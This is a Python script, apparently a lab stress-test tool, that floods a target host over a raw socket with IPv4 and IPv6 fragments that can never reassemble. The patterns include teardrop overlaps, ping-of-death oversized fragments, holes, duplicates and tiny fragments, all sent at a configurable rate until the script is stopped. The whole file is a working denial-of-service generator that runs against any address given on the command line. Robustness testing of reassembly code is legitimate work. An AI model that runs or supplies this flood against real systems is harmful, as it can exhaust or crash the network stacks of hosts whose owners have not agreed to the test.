# SPDX-License-Identifier: BSD-3-Clause
"""usage: fragment_flood.py ADDRESS4 ADDRESS6 MAC RATE

From the interface rs-peer, until it is ended: RATE fragments a second to the host with these addresses of which no datagram can
ever be made. First ones of many numbers, middles, ends; some that overlap, that are empty, crumbs of 8 bytes, and last ones that
would make a datagram longer than any can be. Each line it prints is what it has sent so far.
"""

import random
import socket
import struct
import sys
import time

BATCH = 100


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet4(source, target, number, offset, more, body):
    start = struct.pack("!BBHHHBB", 0x45, 0, 20 + len(body), number & 0xFFFF, offset // 8 | more << 13, 64, 17)
    addresses = source + target
    return b"\x08\x00" + start + struct.pack("!H", checksum(start + b"\0\0" + addresses)) + addresses + body


def packet6(source, target, number, offset, more, body):
    return (b"\x86\xdd" + struct.pack("!IHBB", 6 << 28, 8 + len(body), 44, 64) + source + target +
            struct.pack("!BBHI", 17, 0, offset | more, number) + body)


def attacks(strange):
    """(offset, more, body) of the fragments of one datagram that never completes."""
    body = strange.randbytes(1400)
    return strange.choice((
        [(0, 1, body)], [(1400, 1, body)], [(2800, 0, body)],
        [(0, 1, body), (2800, 0, body[:100])],                            # a hole
        [(0, 1, body), (0, 1, body), (0, 1, body)],                       # copies
        [(0, 1, body), (24, 1, body[:48]), (1400, 1, body)],              # teardrop, and what comes after it
        [(0, 1, body[:8]), (8, 1, body[:8]), (24, 1, body[:8])],          # crumbs
        [(8, 1, b"")], [(0, 1, body[:13])],                               # no fragments at all
        [(65512, 0, body)],                                               # ping of death
        [(1400, 0, body), (0, 0, body[:8])]))                             # two ends


def frames(mac, ours, target4, target6):
    strange = random.Random(11)
    for number in range(12000):
        source4 = socket.inet_aton(f"198.18.1.{number % 250 + 1}")
        source6 = socket.inet_pton(socket.AF_INET6, f"2001:2::1:{number % 250 + 1}")
        for piece in attacks(strange):
            if number % 2:
                yield mac + ours + packet4(source4, target4, number, *piece)
            else:
                yield mac + ours + packet6(source6, target6, number, *piece)


def main(address4, address6, mac, rate):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind(("rs-peer", 0))
    mac = bytes.fromhex(mac.replace(":", ""))
    made = list(frames(mac, wire.getsockname()[4], socket.inet_aton(address4),
                       socket.inet_pton(socket.AF_INET6, address6)))
    begin, sent, told = time.monotonic(), 0, 0
    while True:
        for _ in range(BATCH):
            try:
                wire.send(made[sent % len(made)])
            except BlockingIOError:
                pass
            sent += 1
        ahead = begin + sent / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
        if sent - told >= rate:
            told = sent
            print(sent, round(sent / (time.monotonic() - begin)), flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]))
